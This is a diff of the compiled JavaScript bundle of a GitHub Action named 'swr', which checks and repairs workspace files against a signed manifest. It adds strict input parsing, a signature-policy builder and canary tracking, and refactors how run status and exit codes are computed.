+;// CONCATENATED MODULE: ./src/action/inputs.ts
+/**
+ * Typed, strict readers for the Action's inputs. Unknown values are refused with the input named:
+ * a typo in `fail-on` must not quietly turn a gate off.
+ */
+
+
+
+
+function choice(name, allowed, fallback) {
+    const v = core/* getInput */.V4(name).trim();
+    if (v === '')
+        return fallback;
+    if (!allowed.includes(v))
+        throw new errors_UsageError(`input ${name}: "${v}" is not one of ${allowed.join(', ')}`);
+    return v;
+}
+function bool(name, fallback) {
+    const v = core/* getInput */.V4(name).trim().toLowerCase();
+    if (v === '')
+        return fallback;
+    if (v === 'true')
+        return true;
+    if (v === 'false')
+        return false;
+    throw new errors_UsageError(`input ${name}: "${v}" is not true or false`);
+}
+function inputs_int(name, min, max) {
+    const v = core/* getInput */.V4(name).trim();
+    if (v === '')
+        return undefined;
+    if (!/^\d+$/.test(v) || Number(v) < min || Number(v) > max)
+        throw new errors_UsageError(`input ${name}: "${v}" is not a whole number from ${min} to ${max}`);
+    return Number(v);
+}
+function list(name) {
+    return core/* getInput */.V4(name)
+        .split(/[\n,]/)
+        .map(s => s.trim())
+        .filter(Boolean);
+}
+/** A canary measures: by default what it finds never fails the job. */
+function defaultFailOn(command) {
+    if (command === 'doctor' || command === 'restore')
+        return 'unrepairable';
+    if (SURVIVAL_COMMANDS.includes(command))
+        return 'never';
+    return 'damage';
+}
+function canaryKey() {
+    const v = core/* getInput */.V4(Inputs.CanaryKey).trim() || 'default';
+    if (!/^[A-Za-z0-9._-]{1,64}$/.test(v))
+        throw new errors_UsageError(`input ${Inputs.CanaryKey}: "${v}" must be 1-64 of A-Z a-z 0-9 . _ -`);
+    return v;
+}
+function readInputs(env) {
+    const command = choice(Inputs.Command, COMMANDS, 'check');
+    // The manifest path is relative to the workspace input ($GITHUB_WORKSPACE by default); the
+    // directory it describes is the one it records (relative to itself), as with the CLI.
+    const root = external_node_path_default().resolve(env.GITHUB_WORKSPACE || process.cwd());
+    const base = external_node_path_default().resolve(root, core/* getInput */.V4(Inputs.Workspace).trim() || '.');
+    const manifest = external_node_path_default().resolve(base, core/* getInput */.V4(Inputs.Manifest).trim() || '.swr/manifest.json');
+    const workspace = undefined;
+    const hmacKey = core/* getInput */.V4(Inputs.HmacKey);
+    const approve = core/* getInput */.V4(Inputs.ApproveDigest).trim();
+    if (approve && !/^[0-9a-fA-F]{64}$/.test(approve))
+        throw new errors_UsageError(`input ${Inputs.ApproveDigest}: not a 64-digit hex digest`);
+    const sarif = core/* getInput */.V4(Inputs.Sarif).trim();
+    return {
+        command,
+        manifest,
+        workspace,
+        root,
+        only: list(Inputs.Only),
+        deep: bool(Inputs.Deep, false),
+        jobs: inputs_int(Inputs.Jobs, 1, 32),
+        timeout: inputs_int(Inputs.Timeout, 1, 86400),
+        hmacKey: hmacKey === '' ? undefined : hmacKey,
+        trustedSigners: core/* getInput */.V4(Inputs.TrustedSigners),
+        require: choice(Inputs.Require, ['hmac', 'mldsa', 'both'], 'mldsa'),
+        minVersion: inputs_int(Inputs.MinVersion, 1, Number.MAX_SAFE_INTEGER),
+        waiveDigest: approve || undefined,
+        failOn: choice(Inputs.FailOn, FAIL_ON, defaultFailOn(command)),
+        annotations: bool(Inputs.Annotations, true),
+        summary: bool(Inputs.Summary, true),
+        sarif: sarif ? external_node_path_default().resolve(base, sarif) : undefined,
+        cacheLookup: bool(Inputs.CacheLookup, false),
+        canaryWorkspace: base,
+        canaryAt: list(Inputs.CanaryAt),
+        canaryVolatile: list(Inputs.CanaryVolatile),
+        canaryLargeBytes: inputs_int(Inputs.CanaryLargeBytes, 0, 16 * 1024 * 1024 * 1024),
+        canaryHome: bool(Inputs.CanaryHome, true),
+        canaryKey: canaryKey(),
+        record: bool(Inputs.Record, false)
+    };
+}
+
+;// CONCATENATED MODULE: ./src/action/policy.ts
+/**
+ * The Action's signature policy, built from its inputs alone: the main step and the post step
+ * must judge a manifest by the same rules (the post step trusts nothing the main step handed it).
+ */
+
+function actionPolicy(m, inputs, env, stateDir) {
+    return makePolicy(m, {
+        stateDir,
+        require: inputs.require,
+        hmacKeyText: inputs.hmacKey,
+        local: false,
+        trustedSigners: inputs.trustedSigners ? [inputs.trustedSigners] : [],
+        minVersion: inputs.minVersion,
+        waiveDigest: inputs.waiveDigest,
+        run: { repository: env.GITHUB_REPOSITORY, ref: env.GITHUB_REF },
+        now: new Date()
+    });
+}
+
+;// CONCATENATED MODULE: ./src/action/canary.ts
+/**
+ * The Action's survival commands: `canary-plant`, `canary-read` and `stats`, and `record: true` on
+ * a check. The canary ledger and the history live in a state directory that travels through the
+ * Actions cache between runs (restored before, saved under a new key after), so one run plants and
+ * the next one reads, and every read or recorded check adds to the same history.
+ */
 
 
 
@@ -46993,22 +50094,6 @@ async function recordCheckRun(report, m, inputs, env) {
 
 
 
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
 const REPORT_OUTPUT_LIMIT = 64 * 1024;
 /** The key and every encoding of it that could reach a log. */
 function keyVariants(key) {
@@ -47050,35 +50135,6 @@ function trackedFiles(root) {
         return new Set();
     }
 }
-function statusOf(report) {
-    if (!('repair' in report))
-        return report.verdict === 'healthy' ? 'healthy' : 'damaged';
-    switch (report.repair.outcome) {
-        case 'healthy':
-            return 'healthy';
-        case 'repaired':
-            return 'repaired';
-        case 'refused':
-            return 'refused';
-        case 'damaged':
-        case 'interrupted':
-            return 'damaged';
-        default:
-            return 'unrepairable';
-    }
-}
-/**
- * The status of a run that stopped with a one-line error: `invalid` for a bad manifest or input
- * (exit 4), `refused` when swr declined to go on (exit 2: the gate, a lock it could not get),
- * `error` when it could not finish (a write failed, another writer interfered).
- */
-function errorStatus(code) {
-    if (code === errors_EXIT.BAD_MANIFEST)
-        return 'invalid';
-    if (code === errors_EXIT.UNREPAIRABLE)
-        return 'refused';
-    return 'error';
-}
 function failureFor(status, failOn) {
     if (failOn === 'never')
         return false;
@@ -47086,7 +50142,7 @@ function failureFor(status, failOn) {
         return status === 'damaged' || status === 'unrepairable' || status === 'refused';
     return status === 'unrepairable' || status === 'refused';
 }
-async function main_runRepair(m, inputs, env, stateDir, policy, cacheClient, onFirstCheck) {
+async function runRepair(m, inputs, env, stateDir, policy, cacheClient, onFirstCheck) {
     const mode = inputs.command === 'restore' ? 'restore' : 'doctor';
     const shield = makeShield();
     let group = '';
@@ -47109,6 +50165,7 @@ async function main_runRepair(m, inputs, env, stateDir, policy, cacheClient, onF
             callerEnv: env,
             only: inputs.only.length ? inputs.only : undefined,
             jobs: inputs.jobs,
+            nativeWalk: nativeWalkAllowed(env),
             timeoutS: inputs.timeout,
             hooks: {
                 onCheck: (before, plan) => {
@@ -47176,7 +50233,7 @@ async function run(env = process.env) {
             : undefined;
         if (!cacheClient &&
             (inputs.cacheLookup ||
-                m.body.entries.some(e => restoreSources(e).some(x => typeof x !== 'string')))) {
+                m.body.entries.some(e => types_restoreSources(e).some(x => typeof x !== 'string')))) {
             info('swr: cache sources skipped: no Actions cache service in this job (ACTIONS_RESULTS_URL unset)');
         }
         if (inputs.command === 'verify') {
@@ -47186,49 +50243,40 @@ async function run(env = process.env) {
             return;
         }
         let first;
-        let report;
+        let result;
         if (inputs.command === 'check') {
             startGroup('swr: check');
-            report = await checkManifest(m, {
+            result = await check(m, {
                 only: inputs.only.length ? inputs.only : undefined,
                 deep: inputs.deep,
                 stateDir,
                 version: VERSION,
                 command: inputs.command,
-                jobs: inputs.jobs
+                jobs: inputs.jobs,
+                nativeWalk: nativeWalkAllowed(env),
+                cacheLookup: inputs.cacheLookup ? cacheClient : undefined
             });
-            for (const l of findingLines(report.results.filter(f => f.status !== 'OK'), { color: false, all: false }))
+            for (const l of findingLines(result.report.results.filter(f => f.status !== 'OK'), { color: false, all: false }))
                 rendered(l);
             endGroup();
-            first = report;
-            if (inputs.cacheLookup && cacheClient) {
-                const lookup = await lookupSavedStates(m, selectEntries(m.body.entries, inputs.only.length ? inputs.only : undefined), cacheClient);
-                report = { ...report, cache_lookup: lookup };
-                for (const l of lookup)
-                    info(`cache ${l.available ? 'saved   ' : 'not saved'} ${l.id} (${l.key})`);
-            }
+            first = result.report;
+            for (const l of result.report.cache_lookup ?? [])
+                info(`cache ${l.available ? 'saved   ' : 'not saved'} ${l.id} (${l.key})`);
         }
         else {
-            const repaired = await main_runRepair(m, inputs, env, stateDir, policy, cacheClient, before => {
+            const repaired = await runRepair(m, inputs, env, stateDir, policy, cacheClient, before => {
                 first = before;
             });
-            report = repaired;
+            result = { kind: 'repair', report: repaired };
             scheduleWriteBack(repaired, m, env, cacheClient);
         }
         // What survived, before any repair: the measurement a survival history is for.
         if (inputs.record && first)
             await recordCheckRun(first, m, inputs, env);
         // Nothing secret reaches the report file, outputs, summary, annotations or SARIF.
-        report = scrubDeep(report, makeScrubber(secrets));
-        const status = statusOf(report);
-        exitCode =
-            'repair' in report
-                ? report.repair.exit_code
-                : status === 'healthy'
-                    ? errors_EXIT.HEALTHY
-                    : status === 'refused'
-                        ? errors_EXIT.UNREPAIRABLE
-                        : errors_EXIT.DAMAGED;
+        const report = scrubDeep(result.report, makeScrubber(secrets));
+        const { status } = outcomeOf(result);
+        exitCode = outcomeOf(result).exitCode;
         await publish(report, m, inputs, runnerTemp, status, exitCode);
         if (failureFor(status, inputs.failOn))
             setFailed(`swr ${inputs.command}: ${status} (${report.summary.damaged} of ${report.summary.entries} entries damaged; fail-on: ${inputs.failOn})`);
@@ -47237,7 +50285,7 @@ async function run(env = process.env) {
         const err = caught instanceof errors_SwrError ? caught : (diskError(caught) ?? caught);
         if (err instanceof errors_SwrError) {
             exitCode = err.exitCode;
-            core/* setOutput */.uH(Outputs.Status, errorStatus(exitCode));
+            core/* setOutput */.uH(Outputs.Status, outcomeOfError(exitCode).status);
             core/* setOutput */.uH(Outputs.Healthy, 'false');
             core/* setOutput */.uH(Outputs.ExitCode, String(exitCode));
             setFailed(`swr: ${err.message}`);
@@ -47312,7 +50360,7 @@ async function publish(report, m, inputs, runnerTemp, status, exitCode) {
 }
 /** `command: verify`: signatures only (as `swr verify`): may this manifest's recipes run here? */
 async function runVerify(m, inputs, policy) {
-    const gate = await decide(gateInput(m), policy);
+    const gate = await gate_decide(gate_gateInput(m), policy);
     for (const w of gate.warnings)
         warning(w);
     info(`signatures: ${gate.reason}`);
